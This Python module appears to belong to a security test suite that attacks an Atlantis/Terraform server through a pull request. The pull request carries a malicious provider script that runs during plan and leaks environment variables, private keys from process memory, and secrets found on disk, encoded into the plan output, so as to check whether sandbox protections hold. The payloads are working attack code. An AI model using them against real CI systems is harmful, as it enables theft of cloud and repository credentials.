"""Attacks with a Terraform provider that the pull request contains and the plan runs.

Terraform installs a provider from ``terraform.d/plugins`` of the working directory without confirmation, and the plan's error
contains the first line that such a provider prints. The provider is therefore a shell script that prints one line.
"""

import base64
import gzip
import platform
import re
import secrets
from collections.abc import Mapping
from pathlib import Path

from sandbox.attack.plans import reading_row
from sandbox.attack.pull_requests import Answered, planned
from sandbox.attack.row import Outcome, Row, SkippedError, row
from sandbox.attack.target import Target
from sandbox.testbed import processes

_CONFIGURATION = """
terraform {{
  required_providers {{
    loot = {{ source = "attack.example/pull-request/{type}" }}
  }}
}}

data "loot_loot" "loot" {{}}
"""
_MACHINES = {"x86_64": "amd64", "aarch64": "arm64"}
_FRAME = """#!/bin/sh
server=$$
while [ "$server" -gt 0 ]; do
  case "$(tr '\\0' ' ' 2>/dev/null <"/proc/$server/cmdline")" in
    *atlantis\\ server\\ *) break ;;
  esac
  server=$(sed -n 's/^PPid:[[:space:]]*//p' "/proc/$server/status")
done
{{
{body}
}} 2>&1 | gzip -c | base64 | tr -d '\\n' | sed 's/^/LOOT:/; s/$/:LOOT/'
echo
exec sleep 20
"""
"""Prints the output of ``body``, compressed and encoded in one line, because Terraform reads one line of at most 64 KiB. ``$server`` is
the process ID of the server that runs the plan.

Terraform ends the provider as soon as it has read the line. A provider that exits by itself closes the pipe, and Terraform may lose what
it hasn't read until then: everything after the first 4 KiB."""

_ENVIRONMENTS = """
end=$(($(date +%s) + {seconds}))
while :; do
  cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'
  [ "$(date +%s)" -ge "$end" ] && break
done | sort -u
"""
_MEMORY = """
sleep 30 &
for process in "$server" $!; do
  if (exec 3<"/proc/$process/mem") 2>/dev/null; then
    echo "memory of $process is open"
    grep 'rw-p' "/proc/$process/maps" | while IFS=' -' read -r start end rest; do
      dd if="/proc/$process/mem" bs=4096 skip=$((0x$start / 4096)) count=$(((0x$end - 0x$start) / 4096)) 2>/dev/null |
        grep -a -A 30 -e 'PRIVATE ''KEY-----'
    done | head -c 20000
  fi
done
kill $!
echo "server is $server, child is $!"
"""
_DESCRIPTORS = """
sleep 30 &
for process in "$server" $!; do
  echo "descriptors of $process: $(ls "/proc/$process/fd" 2>/dev/null | tr '\\n' ' ')"
done
kill $!
echo "server is $server, child is $!"
"""
_STOPPED = """
sleep 30 &
for process in "$server" $!; do
  [ "$process" -gt 0 ] || continue
  kill -STOP "$process"
  sleep 1
  echo "$process is $(sed -n 's/^State:[[:space:]]*//p' "/proc/$process/status")"
  kill -CONT "$process"
done
kill $!
echo "server is $server, child is $!"
"""
_FILES = """
planted=$(mktemp -d)
echo 'x-access-''token' >"$planted/token"
for directory in "$HOME" "${TMPDIR:-/tmp}" "$ATLANTIS_DATA_DIR"; do
  find "$directory" -type p -name '*.yaml' 2>/dev/null | sed 's/^/pipe /'
  grep -r -l -s -D skip -e 'PRIVATE ''KEY-----' -e 'gh-webhook-''secret:' "$directory" | sed 's/^/secret in /'
  grep -r -l -s -D skip -e 'x-access-''token' "$directory" | sed 's/^/token in /'
done
rm -r "$planted"
"""


def printed(target: Target, name: str, body: str) -> str:
    """The output of ``body`` in a plan."""
    return target.once(name, lambda: run_in_plan(target, name, body)[0])


def run_in_plan(
    target: Target, name: str, body: str, *, directory: str = "", more: Mapping[str, str] | None = None
) -> tuple[str, Answered]:
    """The output of ``body`` in a plan of ``directory``, and the pull request, which also has the files ``more``."""
    answered = plan_with(target, name, body, directory=directory, more=more)
    if (said := said_in(answered)) is None:
        raise RuntimeError(f"the provider of the pull request didn't print a whole line: {answered.text[:1500]}")
    return said, answered


def plan_with(
    target: Target, name: str, body: str, *, directory: str = "", more: Mapping[str, str] | None = None
) -> Answered:
    """Plan ``directory`` with a provider that runs ``body``."""
    machine = _MACHINES.get(platform.machine(), platform.machine())
    # Atlantis' plugin cache is shared by all pull requests, so each run uses a different provider name.
    kind = f"{name}-{secrets.token_hex(4)}"
    folder = f"{directory}terraform.d/plugins/attack.example/pull-request/{kind}/1.0.0/linux_{machine}"
    path = f"{folder}/terraform-provider-{kind}_v1.0.0"
    configuration = {f"{directory}main.tf": _CONFIGURATION.format(type=kind)}
    files = {**configuration, path: _FRAME.format(body=body.strip()), **(more or {})}
    return planned(target, name, files, executables=[path])


def said_in(answered: Answered) -> str | None:
    """The output of the provider; None if the plan ended before it had printed a whole line."""
    found = re.search(r"LOOT:([\sA-Za-z0-9+/=]*):LOOT", answered.text)
    if found is None:
        return None
    return gzip.decompress(base64.b64decode("".join(found[1].split()))).decode(errors="replace")


def _health_seconds(target: Target) -> int:
    """The number of seconds to poll: longer than the interval of a health check that ECS runs in the container."""
    workers = target.deployment.sibling("-plan")
    described = (
        workers.task_definition(workers.require_service().definition) if target.isolated else target.task_definition
    )
    checks = [container["healthCheck"] for container in described["containerDefinitions"] if "healthCheck" in container]
    return max([3, *(check.get("interval", 30) + 5 for check in checks)])


def _environments(target: Target) -> str:
    return printed(target, "provider-environments", _ENVIRONMENTS.format(seconds=_health_seconds(target)))


def _is_open(target: Target, name: str, body: str, pattern: str, which: str) -> Outcome:
    said = printed(target, name, body)
    found = re.search(r"server is (?P<server>\d+), child is (?P<child>\d+)", said)
    if found is None or (found["server"] == "0") != target.isolated:
        raise RuntimeError(f"the provider didn't find what it should: {said[:300]}")
    if which == "server" and target.isolated:
        return Outcome(False, "the server isn't among the processes of the worker")
    seen = re.search(pattern.format(process=found[which]), said)
    if seen and which == "server" and _is_root_and_started_by_the_task(target):
        raise SkippedError("the server runs as root on this machine, and root can read every process")
    return Outcome(
        seen is not None, f"{which} {found[which]} can{'' if seen else 't'} be read".replace("cant", "can't")
    )


def _is_root_and_started_by_the_task(target: Target) -> bool:
    """Whether the protection can't work, because the sandbox has no separate user for the task (sandbox/atlantis/README.md)."""
    server = processes.find(target.deployment.state, target.deployment.name)
    return _is_started_by_the_task(target) and server is not None and Path(f"/proc/{server.pid}").stat().st_uid == 0


def _is_started_by_the_task(target: Target) -> bool:
    """Whether the task definition starts the server, and not the image's entry point."""
    return any("entryPoint" in container for container in target.task_definition["containerDefinitions"])


def _is_stopped(target: Target, which: str) -> Outcome:
    said = printed(target, "provider-server-stopped", _STOPPED)
    found = re.search(r"server is (?P<server>\d+), child is (?P<child>\d+)", said)
    if found is None or (found["server"] == "0") != target.isolated:
        raise RuntimeError(f"the provider didn't find what it should: {said[:300]}")
    if which == "server" and target.isolated:
        return Outcome(False, "the server isn't among the processes of the worker")
    process = found[which]
    stopped = f"\n{process} is T" in f"\n{said}"
    if stopped and which == "server" and process != "1" and _is_started_by_the_task(target):
        raise SkippedError(
            "the task isn't a container on this machine, so its server isn't process 1, which the kernel protects; "
            "tests/sandbox/atlantis/test_taken_port.py starts it as process 1"
        )
    return Outcome(stopped, f"{which} {process} {'is stopped' if stopped else 'continues'}")


def _reading_process(name: str, body: str, pattern: str) -> Row:
    return row(
        name,
        lambda target: _is_open(target, name, body, pattern, "server"),
        lambda target: _is_open(target, name, body, pattern, "child"),
    )


def _left_on_disk(target: Target) -> Outcome:
    lines = [
        line
        for line in printed(target, "provider-files", _FILES).splitlines()
        if line.startswith(("pipe ", "secret in "))
    ]
    return Outcome(bool(lines), lines[0] if lines else "no file and no pipe contains a secret")


def _planted_on_disk(target: Target) -> Outcome:
    lines = [line for line in printed(target, "provider-files", _FILES).splitlines() if line.startswith("token in ")]
    return Outcome(bool(lines), "the search finds a file that the attack has planted")


ROWS = (
    reading_row("provider-environments", _environments),
    _reading_process("provider-server-memory", _MEMORY, "memory of {process} is open"),
    _reading_process("provider-server-descriptors", _DESCRIPTORS, "descriptors of {process}: \\d"),
    row(
        "provider-server-stopped",
        lambda target: _is_stopped(target, "server"),
        lambda target: _is_stopped(target, "child"),
    ),
    row("provider-files", _left_on_disk, _planted_on_disk),
)
